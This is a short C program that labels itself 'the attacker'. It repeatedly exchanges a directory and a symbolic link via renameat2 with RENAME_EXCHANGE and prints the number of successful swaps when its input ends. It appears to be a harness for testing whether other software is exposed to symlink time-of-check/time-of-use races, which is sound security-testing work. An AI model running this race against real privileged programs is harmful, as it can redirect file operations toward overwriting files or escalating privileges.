/* The attacker: exchanges a directory and a symbolic link as fast as it can, and says how often when its input ends. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>


int main(int argc, char **argv)
{
	unsigned long swaps = 0;
	struct pollfd input = {0, POLLIN, 0};
	if (argc != 3)
		return 2;
	for (;;) {
		for (int i = 0; i < 100; i++)
			if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0)
				swaps++;
		if (poll(&input, 1, 0) != 0)
			break;
	}
	printf("%lu\n", swaps);
	return 0;
}
